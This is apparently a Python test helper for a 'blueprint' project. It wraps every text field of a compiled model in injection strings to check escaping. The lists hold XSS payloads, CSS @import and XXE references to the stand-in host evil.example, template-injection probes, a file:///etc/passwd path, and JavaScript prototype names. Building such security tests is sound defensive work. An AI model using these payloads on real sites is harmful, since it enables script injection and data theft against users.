"""Texts that want to be more than texts, put into every field of a Blueprint that holds one.

Comes in: a compiled file, or the text of one. Goes out: the same with markup, scripts, links and the rest around every string. Fields are
found by walking the dataclasses, so that one that is added tomorrow is poisoned too. Left alone: dates and words out of a fixed list
(`Literal`), for the language lets nothing else stand there.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import dataclass, fields, is_dataclass, replace
from functools import cache
from typing import Any, Literal, get_args, get_origin, get_type_hints

from blueprint import model

OWN = "window.__owned=1;document.title='owned';alert(1)"
#: What a template engine would make of a sum in its braces; it stands in no page of ours.
SUM, TOTAL = "40507*3", "121521"


@dataclass(frozen=True)
class Poison:
    """What stands before and after each text."""

    after: str = ""
    before: str = ""

    def into(self, text: str) -> str:
        return f"{self.before}{text}{self.after}"

    def tamed(self) -> Poison:
        """As long, with the same words and spaces, and without any sign that means something to anybody."""
        return Poison(_tamed(self.after), _tamed(self.before))


def _tamed(text: str) -> str:
    return re.sub(r"[^\w\s]", "·", text)


#: By kind, all that is known to have got through somewhere. A browser runs each of them where it stands unescaped in its place.
POISONS = {
    "markup": Poison(
        f"</style></title></textarea></noscript></template></script></svg>]]>--><script>{OWN}</script><img src=x onerror={OWN}>"
        f"<iframe src=//evil.example></iframe><object data=//evil.example></object><link rel=stylesheet href=//evil.example>"
        f"<meta http-equiv=refresh content='0;url=//evil.example'><form action=//evil.example><input autofocus onfocus={OWN}></form>"
        f"<base href=//evil.example><details open ontoggle={OWN}>x</details><plaintext>"
    ),
    "attributes": Poison(
        f"\" onmouseover={OWN} onfocus={OWN} autofocus tabindex=1 style=\"background:url(//evil.example)\" x=\" ' onclick={OWN} x='"
        f" ` onload={OWN} >< / = &quot; onmouseover={OWN} &#34; &#x22; &apos; &lt;script&gt; &#x3c;script&#62; &colon; &NewLine;"
    ),
    "svg": Poison(
        f"</text></g></svg><svg onload={OWN}><script href=//evil.example/a.js></script><script>{OWN}</script>"
        f"<foreignObject><iframe xmlns='http://www.w3.org/1999/xhtml' srcdoc='<script>{OWN}</script>'></iframe></foreignObject>"
        f"<use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>{OWN}</script></svg>#x'/>"
        f"<image href=//evil.example/a.png /><a xlink:href='javascript:{OWN}'><text>x</text></a>"
        f"<animate attributeName=href values='javascript:{OWN}' onbegin={OWN} /><set attributeName=onmouseover to={OWN} />"
        f"<!DOCTYPE x [<!ENTITY e SYSTEM '//evil.example'>]>&e;<?xml-stylesheet href='//evil.example'?><![CDATA[<script>{OWN}</script>]]>"
    ),
    "styles": Poison(
        "</style><style>@import '//evil.example';*{background:url(//evil.example);display:none}</style>"
        " */ } ; } ) ' \" @import url(//evil.example); *{background:url(//evil.example)!important} :root{--bp-ink:red;--paper:red}"
        " expression(alert(1)) -moz-binding:url(//evil.example) \\3c/style\\3e \\</style> /* <!-- -->"
    ),
    "data": Poison(
        f"</script><script>{OWN}</script><!--<script> --!> ]]> \u2028{OWN}\u2029 \\\"}}]}};{OWN}// ';{OWN}// \\';{OWN}//"
        f" `+{{}}+` ${{{OWN}}} \\u003cscript\\u003e \\x3cscript\\x3e {{\"__proto__\":{{\"x\":1}}}} $& $` $' $1 \\1 \\0 NaN"
    ),
    "templates": Poison(
        f"{{{{ {SUM} }}}} {{% raw %}} {{% endraw %}} {{%- for x in y %}} {{# # #}} ${{{SUM}}} #{{{SUM}}} <%= {SUM} %> <% {OWN} %> [[{SUM}]] @({SUM})"
        f" {{{{constructor.constructor('{OWN}')()}}}} {{{{ cycler.__init__.__globals__ }}}} {{0}} {{}} {{0.__class__}} %s %(x)s %d $x ${{x}} {{{{ words('x') }}}}"
    ),
    "unseen": Poison("\u202eright to left\u2066\u2067\u200b\u200d\ufeff\u00ad\U000e0001 e\u0301\u0301\u0301\u0301 \U0001f468\u200d\U0001f469", "\u202e"),
    "script": Poison(before=f"javascript:{OWN}//"),
    "script with a tab": Poison(before=f"java\tscript:{OWN}//"),
    "script with an end of line": Poison(before=f"\n java\nscript:{OWN}//"),
    "script with entities": Poison(before=f"javascript&colon;{OWN}//&Tab;&#106;avascript:"),
    "script in other letters": Poison(before=f"JaVaScRiPt:{OWN}//ｊａｖａｓｃｒｉｐｔ:"),
    "data address": Poison(before=f"data:text/html;charset=utf-8,<script>{OWN}</script>"),
    "other host": Poison(before="//evil.example/"),
    "file": Poison(before="file:///etc/passwd?"),
}  # fmt: skip
#: What no file can hold, and a Blueprint made by a program can.
UNPRINTABLE = {
    "control characters": Poison("\x00\x1b[31m\x7f\x9b\x08\ufffe\uffff", "\x00"),
    "script behind a control character": Poison(before=f"\x01javascript:{OWN}//"),
    "script with a nought": Poison(before=f"java\x00script:{OWN}//"),
}
#: Names that mean something in JavaScript, or would take the place of something if they became ids.
NAMES = (
    "__proto__", "constructor", "prototype", "toString", "valueOf", "hasOwnProperty", "__defineGetter__", "window", "document", "location",
    "body", "title", "cookie", "top", "self", "parent", "name", "forms", "head", "children", "innerHTML", "onload", "onerror", "eval",
    "undefined", "null", "true", "NaN", "then", "__class__", "__dict__", "items", "values", "keys",
)  # fmt: skip
_DATES = {"date", "due", "start", "end"}


def texts_of(cls: type) -> list[str]:
    """The fields of a class of the model that hold texts of any kind, one or many."""
    return [name for name, hint in _hints(cls).items() if name not in _DATES and _holds_text(hint)]


def classes() -> Iterator[type]:
    """The classes of the model that things are made of: those that no other one is based on."""
    every = [
        one
        for one in vars(model).values()
        if isinstance(one, type) and is_dataclass(one) and one.__module__ == model.__name__
    ]
    return (one for one in every if not any(one in other.__bases__ for other in every))


def poisoned(value: Any, poison: Poison) -> Any:
    """A value of the model with all its texts poisoned; keys too, all in the same way, so that they still lead somewhere."""
    if isinstance(value, dict):
        return {_changed(key, poison): poisoned(one, poison) for key, one in value.items()}
    if type(value) is tuple:
        return tuple(poisoned(one, poison) for one in value)
    if not _is_of_model(value):
        return value
    texts = set(texts_of(type(value)))
    changes = {}
    for one in fields(value):
        old = getattr(value, one.name)
        is_text = one.name in texts and not isinstance(old, dict)
        changes[one.name] = _changed(old, poison) if is_text else poisoned(old, poison)
    return replace(value, **changes)


def filled(value: Any) -> Iterator[tuple[str, str]]:
    """The class and the name of every field below a value that holds anything."""
    if isinstance(value, dict):
        value = tuple(value.values())
    if type(value) is tuple:
        for one in value:
            yield from filled(one)
    elif _is_of_model(value):
        for one in fields(value):
            if getattr(value, one.name):
                yield type(value).__name__, one.name
                yield from filled(getattr(value, one.name))


def in_source(text: str, poison: Poison) -> str:
    """The text of a file with poison in each of its quoted strings but addresses, so that parser and checks meet it as well."""
    # An address with anything around it is an error, and such a file is not drawn.
    return re.sub(
        r'(\bsee )?"((?:[^"\\]|\\.)*)"',
        lambda found: found[0] if found[1] else f'"{_escaped(poison.into(found[2]))}"',
        text,
    )


def _escaped(text: str) -> str:
    return re.sub(r'[\\"]', r"\\\g<0>", text).replace("\n", "\\n").replace("\r", "")


def renamed(text: str, names: list[str]) -> str:
    """The text of a file with other names for its own: `names` are those, and get NAMES in their order."""
    others = dict(zip(names, NAMES, strict=False))
    assert len(others) == len(names) == len(set(names)), "there are not enough names"
    parts = re.split(r'("(?:[^"\\]|\\.)*")', text)
    return "".join(
        part
        if part.startswith('"')
        else re.sub(r"(?<!\w)[^\W\d]\w*", lambda word: others.get(word[0], word[0]), part)
        for part in parts
    )


def _changed(value: Any, poison: Poison) -> Any:
    if isinstance(value, str):
        return poison.into(value)
    return tuple(map(poison.into, value)) if type(value) is tuple else value


def _is_of_model(value: Any) -> bool:
    return is_dataclass(value) and type(value).__module__ == model.__name__


@cache
def _hints(cls: type) -> dict[str, Any]:
    return get_type_hints(cls, vars(model))


def _holds_text(hint: Any) -> bool:
    return hint is str or (get_origin(hint) is not Literal and any(map(_holds_text, get_args(hint))))
